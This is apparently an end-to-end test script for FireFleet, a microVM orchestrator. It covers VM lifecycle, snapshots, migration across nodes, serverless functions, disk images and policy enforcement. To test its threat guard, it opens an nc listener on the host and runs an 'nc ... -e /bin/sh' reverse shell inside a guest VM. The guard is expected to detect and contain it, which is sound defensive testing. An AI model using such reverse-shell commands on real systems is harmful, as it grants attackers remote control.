#!/usr/bin/env bash
# The main job: start FireFleet (server + local agent), boot a real microVM, show its console and
# status, run a one-shot command VM, exec in a guest and show its stats, pause/resume, snapshot and
# restore a VM whose counter goes on, a second node joins and VMs are placed across the labelled
# nodes, the counter VM migrates to the other node, run a VM on a disk image built from a
# directory, deploy a function (a cold start from its snapshot template, warm calls, scale to
# zero), a reverse shell in a guest detected and contained by the guard, a VM refused by a
# policy and the compliance report, stop and delete everything, tear down, exit 0.
set -euo pipefail
cd "$(dirname "$0")/.."
export CARGO_TARGET_DIR="${CARGO_TARGET_DIR:-$PWD/target}"
export FIREFLEET_IMAGE_DIR="${FIREFLEET_IMAGE_DIR:-$HOME/.cache/firefleet/images}"
scripts/setup.sh

ff="$CARGO_TARGET_DIR/debug/firefleet"
data=$(mktemp -d /tmp/firefleet-main.XXXXXX)
listen="${FIREFLEET_LISTEN:-127.0.0.1:7443}"
# The job's own VM bridge and subnet, removed at the end.
bridge="ffmain$$"; bridge="${bridge:0:15}"
subnet="10.219.$(( $$ % 250 )).0/24"
# A second node's bridge and subnet.
bridge2="ffmb$$"; bridge2="${bridge2:0:15}"
subnet2="10.218.$(( $$ % 250 )).0/24"
step() { printf '\n\033[1m==> %s\033[0m\n' "$*"; }

step "firefleet up --data-dir $data --listen $listen"
"$ff" up --data-dir "$data" --listen "$listen" --bridge "$bridge" --subnet "$subnet" \
  --node-name local --label cloud=local --label region=dev-1 \
  --fn-tick-ms 500 --fn-bin-secs 1 --fn-keep-alive-secs 10 --telemetry-interval-ms 1000 \
  2>"$data/up.log" &
up=$!
cleanup() {
  [ -n "${agent2:-}" ] && { kill "$agent2" 2>/dev/null || true; }
  [ -n "${listener:-}" ] && { kill -- -"$listener" 2>/dev/null || true; }
  kill "$up" 2>/dev/null || true
  wait "$up" 2>/dev/null || true
  # Nothing of ours may outlive the job.
  for p in $(pgrep -f qemu-system); do case "$(readlink /proc/$p/cwd)" in "$data"/*) kill -9 "$p";; esac; done 2>/dev/null || true
  # The node network (bridge, TAPs, shapers, nft tables) outlives the agent by design (VMs
  # survive agent restarts); the job removes its own.
  for b in "$bridge" "$bridge2"; do
    for l in $(ip -o link show master "$b" 2>/dev/null | awk -F': ' '{print $2}' | cut -d@ -f1); do ip link del "$l" 2>/dev/null || true; done
    ip link del "$b" 2>/dev/null || true
    nft delete table bridge "firefleet_$b" 2>/dev/null || true
    nft delete table inet "firefleet_$b" 2>/dev/null || true
  done
  [ -n "${disk_image:-}" ] && { rm -rf "$FIREFLEET_IMAGE_DIR/disks/$disk_image" || true; }
  rm -rf "$data"
}
trap cleanup EXIT

export FIREFLEET_SERVER="https://$listen" FIREFLEET_CA="$data/ca.pem" FIREFLEET_TOKEN="@$data/admin.token"
for _ in $(seq 1 300); do
  if [ -f "$data/admin.token" ] && "$ff" node ls --output json 2>/dev/null | grep '"readiness": "ready"' >/dev/null; then break; fi
  if ! kill -0 "$up" 2>/dev/null; then cat "$data/up.log"; echo "firefleet up exited" >&2; exit 1; fi
  sleep 0.2
done
"$ff" node ls

step "a second node joins (cloud=aws, region=us-east-1): placement across the labelled nodes"
join=$("$ff" join-token create --output json | sed -n 's/.*"token": "\([^"]*\)".*/\1/p')
"$ff" agent --server "https://$listen" --ca "$data/ca.pem" --name aws-1 --label cloud=aws \
  --label region=us-east-1 --data-dir "$data/agent-aws-1" --bridge "$bridge2" --subnet "$subnet2" \
  --join-token "$join" 2>"$data/agent-aws-1.log" &
agent2=$!
for _ in $(seq 1 300); do
  [ "$("$ff" node ls --output json | grep -c '"readiness": "ready"')" = 2 ] && break
  sleep 0.2
done
"$ff" node ls
"$ff" vm run --name place-1 --vcpus 2 --memory 256 --cmd 'sleep 600' --wait
"$ff" vm run --name place-2 --vcpus 2 --memory 256 --cmd 'sleep 600' --wait
echo "two 2-vCPU VMs on two 2-vCPU nodes: one on each"
"$ff" vm ls
[ "$("$ff" vm get place-1 --output json | grep '"node"')" != "$("$ff" vm get place-2 --output json | grep '"node"')" ]
"$ff" vm rm place-1 --wait
"$ff" vm rm place-2 --wait

step "firefleet vm run --name hello --wait"
"$ff" vm run --name hello --wait

step "firefleet vm logs hello"
for _ in $(seq 1 100); do
  "$ff" vm logs hello | grep "firefleet-guest ready" >/dev/null && break
  sleep 0.2
done
"$ff" vm logs hello | tee "$data/hello.console"
grep -q "firefleet-guest ready" "$data/hello.console"

step "firefleet vm get hello"
"$ff" vm get hello

step "firefleet vm run --name job --cmd 'echo hello from a microVM; uname -r; exit 7' --wait"
"$ff" vm run --name job --cmd 'echo hello from a microVM; uname -r; exit 7' --wait
for _ in $(seq 1 300); do
  [ "$("$ff" vm get job --output json | grep -c '"phase": "stopped"')" = 1 ] && break
  sleep 0.2
done
"$ff" vm get job
"$ff" vm logs job | grep -E "hello from a microVM|exit-status"

step "firefleet vm exec hello -- uname -sr; firefleet vm stats hello"
"$ff" vm exec hello -- uname -sr
for _ in $(seq 1 100); do "$ff" vm stats hello >/dev/null 2>&1 && break; sleep 0.2; done
"$ff" vm stats hello

step "a counter VM: pause, resume, snapshot, stop, restore in a new VMM process"
"$ff" vm run --name counter --cmd 'i=0; while true; do echo counter=$i; i=$((i+1)); sleep 0.5; done' --wait
sleep 2
"$ff" vm pause counter --wait
"$ff" vm resume counter --wait
"$ff" vm snapshot counter s1 --wait
sleep 1
echo "last lines before stopping:"; "$ff" vm logs counter | grep counter= | tail -n 2
"$ff" vm stop counter --wait
"$ff" vm restore counter s1 --wait
sleep 2
echo "after the restore the counter goes on from the snapshot (no second boot):"
"$ff" vm logs counter | grep counter= | tail -n 3
[ "$("$ff" vm logs counter | grep -c 'firefleet-guest ready')" = 1 ]

step "migrate the counter VM to the other node: the guest goes on"
from=$("$ff" vm get counter --output json | sed -n 's/.*"node": "\([^"]*\)".*/\1/p')
to=aws-1; [ "$from" = aws-1 ] && to=local
echo "counter runs on $from; last lines:"; "$ff" vm logs counter | grep counter= | tail -n 2
"$ff" vm migrate counter --to "$to" --wait
sleep 2
echo "on $to now; the counter goes on (no second boot):"
"$ff" vm logs counter | grep counter= | tail -n 3
[ "$("$ff" vm logs counter | grep -c 'firefleet-guest ready')" = 1 ]
"$ff" vm get counter

step "firefleet vm stop hello --wait; firefleet vm rm hello job counter --wait"
"$ff" vm stop hello --wait
"$ff" vm rm hello --wait
"$ff" vm rm job --wait
"$ff" vm rm counter --wait
"$ff" vm ls

step "a function: deploy (its template booted and snapshotted), a cold start, warm calls, scale to zero"
"$ff" fn deploy greet --cmd 'read name; echo "hello, $name"' --memory 128 --max 3 --region dev-1
echo "first call: a cold start (an instance restored from the template):"
"$ff" fn invoke greet --data world 2>&1
echo "next calls: warm"
"$ff" fn invoke greet --data again 2>&1
"$ff" fn invoke greet --data "once more" 2>&1
[ "$("$ff" fn invoke greet --data check 2>/dev/null)" = "hello, check" ]
sleep 1
"$ff" fn get greet
echo "idle: the instance goes once the keep-alive the autoscaler gave it passes (this job runs the"
echo "autoscaler on a compressed clock: 1 s bins instead of 1 min)"
for _ in $(seq 1 300); do
  "$ff" fn get greet --output json | grep '"instances": \[\]' >/dev/null && break
  sleep 0.5
done
"$ff" fn get greet --output json | grep '"instances": \[\]' >/dev/null
"$ff" fn get greet
"$ff" fn rm greet

step "the guard: a reverse shell inside a guest is detected and contained (isolated, snapshotted, replaced)"
gw="${subnet%.0/24}.1"
# The attacker's end: a listener on the host (its own process group, to be killed as a whole).
setsid sh -c 'sleep 600 | exec busybox nc -l -p 9001' >/dev/null 2>&1 </dev/null &
listener=$!
"$ff" vm run --name shell --node-selector cloud=local --wait
"$ff" vm exec shell -- sh -c "(setsid nc $gw 9001 -e /bin/sh </dev/null >/dev/null 2>&1 &); true"
echo "a shell in the guest now reads and writes a socket to $gw:9001"
for _ in $(seq 1 900); do
  "$ff" threat ls --vm shell --rule reverse-shell-stdio --output json | grep '"contained_ms": [0-9]' >/dev/null && break
  sleep 0.2
done
"$ff" threat ls --vm shell --rule reverse-shell-stdio --output json | grep '"contained_ms": [0-9]' >/dev/null
"$ff" threat ls --vm shell
threat=$("$ff" threat ls --vm shell --rule reverse-shell-stdio --output json | sed -n 's/^    "id": "\([^"]*\)".*/\1/p' | head -n 1)
"$ff" threat get "$threat"
"$ff" vm ls
kill -- -"$listener" 2>/dev/null || true
"$ff" vm rm shell --wait
"$ff" vm rm shell-r1 --wait

step "a disk image built from a directory, the root of a VM (its own copy-on-write layer), plus a blank data disk"
mkdir -p "$data/rootfs/bin" "$data/rootfs/proc" "$data/rootfs/sys" "$data/rootfs/dev" "$data/rootfs/tmp" "$data/rootfs/mnt"
cp /bin/busybox "$data/rootfs/bin/"
for a in sh cat echo; do ln -s busybox "$data/rootfs/bin/$a"; done
echo "hello from a disk image" > "$data/rootfs/hello.txt"
disk_image=$("$ff" image build-disk --name "mainjob-$$" --from "$data/rootfs" --output json | sed -n 's/.*"digest": "sha256:\([0-9a-f]*\)".*/\1/p')
"$ff" vm run --name disk --disk "image=mainjob-$$,root" --disk size=16 \
  --cmd 'cat /hello.txt; echo written > /hello.txt; echo data > /mnt/1/f; cat /hello.txt /mnt/1/f' --wait
for _ in $(seq 1 300); do
  [ "$("$ff" vm get disk --output json | grep -c '"phase": "stopped"')" = 1 ] && break
  sleep 0.2
done
"$ff" vm logs disk | grep -E "hello from a disk image|written|data"
"$ff" vm rm disk --wait
rm -rf "$FIREFLEET_IMAGE_DIR/disks/$disk_image"
"$ff" vm ls

step "compliance: the policies in force, a VM the built-in policies refuse, the compliance report"
"$ff" policy ls
if "$ff" vm run --name greedy --vcpus 12 2> "$data/refused.txt"; then
  echo "a VM with 12 vCPUs was admitted" >&2; exit 1
fi
cat "$data/refused.txt"
grep -q "refused by policy" "$data/refused.txt"
"$ff" compliance ls
"$ff" compliance report --format html --out "$data/compliance.html"
grep -c "<tr" "$data/compliance.html"
"$ff" compliance report --format json > "$data/compliance.json"
head -n 30 "$data/compliance.json"

step "tearing down"
kill "$agent2"
wait "$agent2" || true
kill "$up"
wait "$up" || true
for p in $(pgrep -f qemu-system || true); do
  case "$(readlink "/proc/$p/cwd")" in
    "$data"/*) echo "a QEMU process ($p) outlived the job" >&2; exit 1 ;;
  esac
done
echo "main job: OK"
